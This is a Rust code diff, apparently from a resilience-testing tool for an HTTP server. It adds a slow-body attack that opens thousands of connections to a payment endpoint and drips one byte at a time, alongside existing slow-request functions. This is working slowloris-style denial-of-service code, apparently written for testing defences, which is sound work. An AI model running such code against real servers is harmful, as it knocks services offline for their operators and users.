@@ -12,6 +12,8 @@ use crate::http1::request;
 pub(super) const IDLE: usize = 10_000;
 pub(super) const MORE_THAN_DESCRIPTORS: usize = 600;
 pub(super) const SLOW: usize = 2_000;
+/// More than may be in flight.
+pub(super) const WITHOUT_BODIES: usize = 4_500;
 
 pub(super) const BETWEEN_BYTES: Duration = Duration::from_millis(500);
 
@@ -49,6 +51,26 @@ pub(crate) fn heads(aim: &Aim) -> JoinSet<()> {
 pub(crate) fn bodies(aim: &Aim) -> JoinSet<()> {
     let kind = "content-type: application/json\r\ncontent-length: 8000000\r\n";
     dripping(aim, request("POST /decode", kind, "") + "[")
+}
+
+/// Short bodies, of which a byte comes every second.
+pub(crate) fn bodies_by_the_second(aim: &Aim) -> JoinSet<()> {
+    let head = request("POST /ids/payment", "content-type: application/json\r\ncontent-length: 10\r\n", "");
+    aim.attackers(WITHOUT_BODIES, move |aim, number| {
+        let head = head.clone();
+        async move {
+            loop {
+                let mut attacker = Attacker::connect(&aim, number).await;
+                let mut goes_on = attacker.send(head.as_bytes()).await;
+                attacker.deeds.requests.add(usize::from(goes_on));
+                for _ in 0..9 {
+                    sleep(COME_AGAIN).await;
+                    goes_on = goes_on && attacker.send(b" ").await;
+                }
+                sleep(COME_AGAIN).await;
+            }
+        }
+    })
 }
 
 fn dripping(aim: &Aim, beginning: String) -> JoinSet<()> {
